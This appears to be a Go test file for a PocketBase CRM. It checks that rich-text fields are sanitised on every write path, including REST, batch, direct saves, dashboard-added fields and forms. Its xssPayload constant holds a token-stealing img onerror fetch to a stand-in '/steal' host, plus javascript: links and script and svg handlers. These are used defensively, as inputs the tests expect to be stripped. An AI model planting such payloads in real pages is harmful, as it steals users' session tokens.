package hooks_test

import (
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/pocketbase/pocketbase/core"
	"github.com/pocketbase/pocketbase/tools/hook"

	"github.com/relata/relata/hooks"
	_ "github.com/relata/relata/migrations"
	"github.com/relata/relata/schemas"
	"github.com/relata/relata/schemas/forms"
	"github.com/relata/relata/schemas/schemastest"
)

// xssPayload is finding 1 of issue 10: a sales rep's note that stole a manager's session.
const xssPayload = `<p>Call <b>back</b> <a href="https://example.com/x">here</a></p>` +
	`<img src=x onerror="fetch('http://127.0.0.1:1/steal?t='+localStorage.pocketbase_auth)">` +
	`<a href="javascript:alert(1)">click</a><svg onload=alert(2)></svg><script>alert(3)</script>`

// xssClean is what must be stored for xssPayload.
const xssClean = `<p>Call <b>back</b> <a href="https://example.com/x" rel="nofollow noopener" target="_blank">here</a></p>click`

func assertClean(t *testing.T, app core.App, collection, id, field string) {
	t.Helper()
	r, err := app.FindRecordById(collection, id)
	if err != nil {
		t.Fatal(err)
	}
	if got := r.GetString(field); got != xssClean {
		t.Errorf("%s %s.%s stored %q; want %q", collection, id, field, got, xssClean)
	}
}

// TestRichTextSanitizedOnEveryWrite: whichever way rich text reaches the database — REST
// create and update by a sales rep, the batch API, Go Save and SaveNoValidate (workflow
// actions, seed, imports), fields and collections added in the dashboard — only the
// allow-listed markup is stored.
func TestRichTextSanitizedOnEveryWrite(t *testing.T) {
	env := newEnv(t)
	app, srv := env.app, env.srv
	settings := app.Settings()
	settings.Batch.Enabled = true
	if err := app.Save(settings); err != nil {
		t.Fatal(err)
	}
	_, aliceTok := schemastest.NewUser(t, app, "alice@example.com", "sales", "north")

	t.Run("Go Save", func(t *testing.T) {
		c := schemastest.MustCreate(t, app, "companies", map[string]any{"name": "Go Co", "notes": xssPayload})
		assertClean(t, app, "companies", c.Id, "notes")
		c.Set("notes", xssPayload+" ")
		if err := app.Save(c); err != nil {
			t.Fatal(err)
		}
		r, _ := app.FindRecordById("companies", c.Id)
		if got := r.GetString("notes"); got != xssClean+" " {
			t.Errorf("update stored %q", got)
		}
	})
	t.Run("SaveNoValidate", func(t *testing.T) {
		coll, err := app.FindCollectionByNameOrId("companies")
		if err != nil {
			t.Fatal(err)
		}
		r := core.NewRecord(coll)
		r.Set("name", "Unvalidated Co")
		r.Set("notes", xssPayload)
		if err := app.SaveNoValidate(r); err != nil {
			t.Fatal(err)
		}
		assertClean(t, app, "companies", r.Id, "notes")
	})
	t.Run("REST create and update as sales", func(t *testing.T) {
		var out map[string]any
		if code := schemastest.Call(t, srv, http.MethodPost, "/api/collections/companies/records", aliceTok,
			map[string]any{"name": "Alice Co", "notes": xssPayload}, &out); code != 200 {
			t.Fatalf("create = %d %v", code, out)
		}
		id := out["id"].(string)
		if out["notes"] != xssClean {
			t.Errorf("create answered notes %q", out["notes"])
		}
		assertClean(t, app, "companies", id, "notes")
		shared := schemastest.MustCreate(t, app, "companies", map[string]any{"name": "Shared Co"})
		if code := schemastest.Call(t, srv, http.MethodPatch, "/api/collections/companies/records/"+shared.Id, aliceTok,
			map[string]any{"notes": xssPayload}, &out); code != 200 {
			t.Fatalf("update = %d %v", code, out)
		}
		assertClean(t, app, "companies", shared.Id, "notes")
	})
	t.Run("batch", func(t *testing.T) {
		c := schemastest.MustCreate(t, app, "companies", map[string]any{"name": "Batch Co"})
		var out any
		code := schemastest.Call(t, srv, http.MethodPost, "/api/batch", aliceTok, map[string]any{"requests": []any{
			map[string]any{"method": "PATCH", "url": "/api/collections/companies/records/" + c.Id, "body": map[string]any{"notes": xssPayload}},
			map[string]any{"method": "POST", "url": "/api/collections/companies/records", "body": map[string]any{"name": "Batch New", "notes": xssPayload}},
		}}, &out)
		if code != 200 {
			t.Fatalf("batch = %d %v", code, out)
		}
		assertClean(t, app, "companies", c.Id, "notes")
		n, err := app.FindFirstRecordByData("companies", "name", "Batch New")
		if err != nil {
			t.Fatal(err)
		}
		assertClean(t, app, "companies", n.Id, "notes")
	})
	t.Run("fields and collections added in the dashboard", func(t *testing.T) {
		deals, err := app.FindCollectionByNameOrId("deals")
		if err != nil {
			t.Fatal(err)
		}
		deals.Fields.Add(&core.EditorField{Name: "summary"})
		if err := app.Save(deals); err != nil {
			t.Fatal(err)
		}
		d := schemastest.MustCreate(t, app, "deals", map[string]any{"name": "D", "stage": "lead", "summary": xssPayload})
		assertClean(t, app, "deals", d.Id, "summary")

		projects := core.NewBaseCollection("projects")
		projects.Fields.Add(&core.TextField{Name: "title"}, &core.EditorField{Name: "brief"})
		if err := app.Save(projects); err != nil {
			t.Fatal(err)
		}
		p := core.NewRecord(projects)
		p.Set("brief", xssPayload)
		if err := app.Save(p); err != nil {
			t.Fatal(err)
		}
		assertClean(t, app, "projects", p.Id, "brief")
	})
	t.Run("text fields are not rewritten", func(t *testing.T) {
		// Plain text and long text are shown as text by the app; they keep what was typed.
		c := schemastest.MustCreate(t, app, "companies", map[string]any{"name": `<b>Tom & Jerry</b>`, "address": `a < b & "c"`, "notes": `Tom & Jerry's > 3`})
		r, _ := app.FindRecordById("companies", c.Id)
		if r.GetString("name") != `<b>Tom & Jerry</b>` || r.GetString("address") != `a < b & "c"` || r.GetString("notes") != `Tom & Jerry's > 3` {
			t.Errorf("text changed: %q %q %q", r.GetString("name"), r.GetString("address"), r.GetString("notes"))
		}
	})
}

// TestRichTextSanitizedFromForms: a signed-in (non-public) form may fill a rich text field;
// what it stores is sanitised like any other write.
func TestRichTextSanitizedFromForms(t *testing.T) {
	app := schemastest.OpenApp(t, t.TempDir())
	reg := schemas.MustRegister(app, nil, schemas.Config{})
	hooks.MustRegister(app, hooks.Config{Registry: reg})
	// As an admin would in the dashboard, once the model is applied and before forms load.
	app.OnServe().Bind(&hook.Handler[*core.ServeEvent]{Priority: -50, Func: func(se *core.ServeEvent) error {
		contacts, err := app.FindCollectionByNameOrId("contacts")
		if err != nil {
			return err
		}
		contacts.Fields.Add(&core.EditorField{Name: "bio"})
		if err := app.Save(contacts); err != nil {
			return err
		}
		if err := reg.Refresh(); err != nil {
			return err
		}
		return se.Next()
	}})
	dir := t.TempDir()
	def := `{"slug": "intake", "title": "Intake", "object": "contacts", "public": false,
	  "fields": [{"name": "full_name"}, {"name": "email", "required": true}, {"name": "bio"}],
	  "spam": {"minFillSeconds": 0, "ratePerMinute": 0, "ratePerHour": 0}}`
	if err := os.WriteFile(filepath.Join(dir, "intake.json"), []byte(def), 0o644); err != nil {
		t.Fatal(err)
	}
	forms.MustRegister(app, nil, forms.Config{Registry: reg, Dirs: []string{dir}})
	srv := schemastest.Serve(t, app)
	_, tok := schemastest.NewUser(t, app, "alice@example.com", "sales", "north")

	var out map[string]any
	code := schemastest.Call(t, srv, http.MethodPost, "/api/relata/forms/intake", tok,
		map[string]any{"full_name": "Eve", "email": "eve@example.com", "bio": xssPayload}, &out)
	if code != 200 {
		t.Fatalf("submit = %d %v", code, out)
	}
	r, err := app.FindFirstRecordByData("contacts", "email", "eve@example.com")
	if err != nil {
		t.Fatalf("%v (answer %v)", err, out)
	}
	if got := r.GetString("bio"); got != xssClean || strings.Contains(got, "onerror") {
		t.Errorf("form stored bio %q; want %q", got, xssClean)
	}
}
